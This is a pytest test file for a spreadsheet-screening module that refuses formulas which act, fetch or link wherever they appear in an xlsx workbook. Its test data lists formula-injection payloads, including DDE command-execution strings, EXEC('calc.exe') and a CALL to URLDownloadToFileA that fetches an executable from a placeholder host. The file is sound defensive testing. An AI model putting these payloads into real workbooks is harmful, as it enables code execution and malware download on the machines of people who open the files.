"""A formula that acts or fetches is refused wherever in a workbook it stands; one that links to the web is told."""

from xml.sax.saxutils import escape, quoteattr

import pytest

from documents.screening.examining import examine
from documents.screening.ooxml.formulas import check_formula
from documents.screening.verdict import DocumentRefused, Findings

from .files import changed, relationship, relationships, unzipped, xlsx

SHEET = "xl/worksheets/sheet1.xml"
PLAIN = xlsx()
ACTING = [
    'WEBSERVICE("https://a.example")',
    ' webservice ("https://a.example")',
    '_xlfn.IMAGE("https://a.example/a.png")',
    "_xlfn._xlws.PY(0,1)",
    'MAP(A1:A9,_xleta.WEBSERVICE)',
    'MAP(A1:A9,_xleta.HYPERLINK)',
    'IFERROR(1/0,WEBSERVICE\n("https://a.example"))',
    'RTD("a.b",,"c")',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://a.example","a.exe",0,0)',
    'EXEC("calc.exe")',
    'CUBEVALUE("a","[b].[c]")',
    'SQL.REQUEST("DSN=a")',
    'STOCKHISTORY("MSFT",TODAY())',
    'IMPORTXML("https://a.example","//a")',
    'ImportData("https://a.example")',
    'DDE("soffice";"a.ods";"A1")',
    "_xll.Fetch(1)",
    "cmd|'/c calc'!A0",
    "MSEXCEL|'\\..\\..\\a.exe'!''",
    "cmd|calc!A0",
    "[1]Sheet1!A1",
    "[1]!Name",
    "'[1]Sheet 1'!A1",
    "'C:\\[Book.xlsx]Sheet1'!A1",
    "'\\\\server\\share\\[Book.xlsx]Sheet1'!A1",
    "'file:///C:/Book.xlsx'#$Sheet1.A1",
    "HYPERLINK(A1)",
    'HYPERLINK("file://server/a.exe")',
    'HYPERLINK("\\\\server\\share")',
    'HYPERLINK("a.exe","打开")',
    'HYPERLINK("ht"&"tps://a.example")',
    'HYPERLINK("[Book.xlsx]Sheet1!A1")',
    "cmd|'/c calc ''x'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe /c ''calc'!''",
    "'C:\\[Book.xlsx]It''s'!A1",
    "'file:///C:/Bo''ok.xlsx'#$S.A1",
    'IMPORTTEXT("https://a.example")',
    '_xlfn.IMPORTCSV("https://a.example")',
    'HYPERLINK("https://a.example"&".b.example/")',
    'HYPERLINK("http://"&A1)',
    'HYPERLINK("#file:///c:/a.exe")',
    'HYPERLINK("#\\\\server\\share")',
]  # fmt: skip
LINKING = [
    'HYPERLINK("http://a.example/b","看一看")',
    ' hyperlink ( "HTTP://a.example" )',
    'IF(A1>1,HYPERLINK("https://a.example/?x="&B1))',
]
LINK = {"code": "links", "count": 1, "where": ["a.example"]}
ORDINARY = [
    "SUM(A1:A9)",
    "SUM(Table1[金额])/COUNT(Table1[[#All],[人数]])",
    "Table1[@金额]*2",
    'A1&"|"&B1',
    "'2026 年 (二)'!A1",
    "'It''s'!A1",
    "INDEX(A1:A9,MATCH(1,B1:B9,0))",
    "[0]!Name",
    'IF(A1="","无",TEXT(A1,"[h]:mm"))',
    'HYPERLINK("#\'名单\'!A1","回到名单")',
    'HYPERLINK("#"&B2)',
]  # fmt: skip


def in_sheet(before, xml):
    def place(formula):
        part = unzipped(PLAIN)[SHEET].decode()
        filled = xml.format(text=escape(formula), attribute=quoteattr(formula))
        return changed(PLAIN, {SHEET: part.replace(before, filled + before)})

    return place


def in_part(kind, content_type, xml):
    """Of a part that the sheet points to."""

    def place(formula):
        name = f"xl/parts/{kind}1.xml"
        filled = xml.format(text=escape(formula), attribute=quoteattr(formula))
        types = unzipped(PLAIN)["[Content_Types].xml"].replace(
            b"</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
        )
        rows = relationships(relationship(kind, f"../parts/{kind}1.xml"))
        return changed(PLAIN, {name: filled, "[Content_Types].xml": types, "xl/worksheets/_rels/sheet1.xml.rels": rows})

    return place


def in_workbook(formula):
    part = unzipped(PLAIN)["xl/workbook.xml"].decode()
    name = f'<definedNames><definedName name="a">{escape(formula)}</definedName></definedNames>'
    return changed(PLAIN, {"xl/workbook.xml": part.replace("<definedNames/>", "").replace("<calcPr", f"{name}<calcPr")})


OFFICE = "application/vnd.openxmlformats-officedocument."
PLACES = {
    "a cell": in_sheet("</sheetData>", '<row r="9"><c r="A9"><f>{text}</f><v>0</v></c></row>'),
    "a cell with a text as its last value": in_sheet(
        "</sheetData>", '<row r="9"><c r="A9" t="str"><f>{text}</f><v>看</v></c></row>'
    ),
    "a shared formula": in_sheet(
        "</sheetData>", '<row r="9"><c r="A9"><f t="shared" ref="A9:A10" si="0">{text}</f></c></row>'
    ),
    "an array": in_sheet("</sheetData>", '<row r="9"><c r="A9"><f t="array" ref="A9">{text}</f></c></row>'),
    "a defined name": in_workbook,
    "a rule of colours": in_sheet(
        "<pageMargins", '<conditionalFormatting><cfRule type="expression"><formula>{text}</formula></cfRule>'
        "</conditionalFormatting>",
    ),
    "a scale of colours": in_sheet(
        "<pageMargins", '<conditionalFormatting><cfRule><colorScale><cfvo type="formula" val={attribute}/></colorScale>'
        "</cfRule></conditionalFormatting>",
    ),
    "what may be typed": in_sheet(
        "<pageMargins", '<dataValidations><dataValidation type="custom"><formula1>{text}</formula1></dataValidation>'
        "</dataValidations>",
    ),
    "an extension": in_sheet(
        "</worksheet>", '<extLst><ext xmlns:xm="x"><xm:f>{text}</xm:f></ext></extLst>'
    ),
    "a column of a table": in_part(
        "table", f"{OFFICE}spreadsheetml.table+xml",
        "<table><tableColumn><calculatedColumnFormula>{text}</calculatedColumnFormula></tableColumn></table>",
    ),
    "the last row of a table": in_part(
        "table", f"{OFFICE}spreadsheetml.table+xml",
        "<table><tableColumn><totalsRowFormula>{text}</totalsRowFormula></tableColumn></table>",
    ),
    "a chart": in_part("chart", f"{OFFICE}drawingml.chart+xml", "<chart><f>{text}</f></chart>"),
    "a button": in_part("drawing", f"{OFFICE}drawing+xml", "<wsDr><sp macro={attribute}/></wsDr>"),
    "a shape": in_part("drawing", f"{OFFICE}drawing+xml", "<wsDr><sp textlink={attribute}/></wsDr>"),
    "an old control": in_part(
        "vmlDrawing", f"{OFFICE}vmlDrawing", "<xml><ClientData><FmlaMacro>{text}</FmlaMacro></ClientData></xml>"
    ),
    "a pivot table": in_part(
        "pivotTable", f"{OFFICE}spreadsheetml.pivotTable+xml", "<pivot><calculatedItem formula={attribute}/></pivot>"
    ),
}  # fmt: skip


@pytest.mark.parametrize("formula", ACTING)
def test_a_formula_that_acts_or_fetches_is_refused(formula):
    with pytest.raises(DocumentRefused) as refused:
        check_formula(formula, Findings())
    assert refused.value.code in {"formula", "link"}


@pytest.mark.parametrize("formula", ORDINARY)
def test_a_formula_that_counts_is_let_in(formula):
    findings = Findings()
    check_formula(formula, findings)
    assert findings.as_list() == []


@pytest.mark.parametrize("formula", LINKING)
def test_a_formula_that_links_to_the_web_is_to_be_confirmed(formula):
    findings = Findings()
    check_formula(formula, findings)
    assert findings.as_list() == [LINK]


@pytest.mark.parametrize("place", PLACES)
def test_a_formula_is_looked_at_wherever_it_stands(place):
    with pytest.raises(DocumentRefused) as refused:
        examine(PLACES[place](ACTING[0]))
    assert refused.value.code == "formula"
    assert examine(PLACES[place](LINKING[0])).findings == [LINK]


def test_a_formula_that_is_no_more_than_a_text_is_a_text():
    cell = '<row r="9"><c r="A9" t="str"><v>{text}</v></c></row>'
    screened = examine(in_sheet("</sheetData>", cell)('=HYPERLINK("http://a.example")'))
    assert screened.findings == []
    assert '=HYPERLINK("http://a.example")' in screened.text
